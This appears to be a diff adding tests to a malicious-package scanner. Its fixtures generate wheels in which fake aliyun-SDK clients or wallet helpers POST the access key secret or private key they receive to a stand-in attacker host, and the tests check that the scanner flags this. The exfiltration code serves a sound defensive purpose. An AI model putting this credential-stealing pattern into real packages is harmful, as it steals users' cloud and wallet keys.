@@ -121,3 +121,77 @@ def test_default_profile_calls_a_client_that_fetches_the_url_it_is_given(tmp_pat
     context = [f for f in report.findings if f.phase is Phase.EXECUTE]
     assert {"PS002", "PS012"} <= {f.rule_id for f in context}, [f.rule_id for f in context]
     assert all(f.severity.value == "low" and "made-up arguments" in f.message for f in context)
+
+
+def _post(host_expr: str, port_expr: str, header_host: str, body_expr: str) -> str:
+    """Source lines that POST *body_expr* to *host_expr*:*port_expr* with Host *header_host*."""
+    return textwrap.dedent(
+        f"""\
+        s = socket.socket()
+        s.settimeout(2)
+        try:
+            s.connect(({host_expr}, {port_expr}))
+            data = ({body_expr}).encode()
+            head = "POST /k HTTP/1.1\\r\\nHost: " + {header_host} + "\\r\\nContent-Length: "
+            s.sendall(head.encode() + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
+        except OSError:
+            pass
+        finally:
+            s.close()
+        """
+    )
+
+
+@pytest.mark.parametrize("shape", ["sdk-constructor", "wallet-helper"])
+def test_default_profile_catches_a_call_that_sends_the_secret_it_is_handed(
+    tmp_path: Path, shape: str
+) -> None:
+    # aliyun-SDK look-alikes: Client(config) posts config.access_key_secret to the
+    # attacker's host; wallet helpers post the private key they are handed. Nothing
+    # planted is read: the secret arrives as an argument.
+    r = Randomised()
+    name, host, port, collector = r.name("sdk"), r.address(), r.port(), f"{r.name('api')}.example"
+    if shape == "sdk-constructor":
+        fn = f"Client{r.name('')}"
+        body = '"ak=" + str(config.access_key_id) + "&secret=" + str(config.access_key_secret)'
+        src = f"class {fn}:\n    def __init__(self, config):\n" + textwrap.indent(
+            _post(repr(host), str(port), repr(collector), body), "        "
+        )
+    else:
+        fn = f"import_{r.name('wallet')}"
+        src = f"def {fn}(private_key, label=None):\n" + textwrap.indent(
+            _post(repr(host), str(port), repr(collector), "private_key"), "    "
+        )
+    whl = build_wheel(
+        tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/core.py": "import socket\n\n" + src}
+    )
+    code, report = run_cli(tmp_path, str(whl), "--window", "1")
+    assert report is not None and report.verdict is Verdict.SUSPICIOUS and code == 1, (
+        report and report.verdict_reason
+    )
+    found = [f for f in report.findings if f.rule_id == "PS032"]
+    assert found and all(f.phase is Phase.EXECUTE and f.severity.value == "medium" for f in found)
+    assert collector in found[0].message, found[0].message
+    assert all(e.path == "an argument of a call" for f in found for e in f.evidence)
+    # not a planted credential: no PS010
+    assert not [f for f in report.findings if f.rule_id == "PS010"]
+
+
+def test_default_profile_clean_when_a_client_sends_the_handed_secret_to_the_handed_url(
+    tmp_path: Path,
+) -> None:
+    # a client's login(url, password): the password goes where it was told to go
+    r = Randomised()
+    name = r.name("client")
+    src = "import socket\nfrom urllib.parse import urlsplit\n\ndef login(url, password):\n" + textwrap.indent(
+        "parts = urlsplit(url)\n"
+        + _post("parts.hostname", "parts.port or 80", "parts.hostname", '"password=" + password'),
+        "    ",
+    )
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/api.py": src})
+    code, report = run_cli(tmp_path, str(whl), "--window", "1")
+    assert report is not None and code == 0 and report.verdict is Verdict.CLEAN, report.verdict_reason
+    assert not [f for f in report.findings if f.rule_id == "PS032"]
+    # the secret did leave, to the made-up URL's host: the capture shows it
+    assert report.network is not None
+    assert any(x.location == "an argument of a call" for x in report.network.exfiltration)
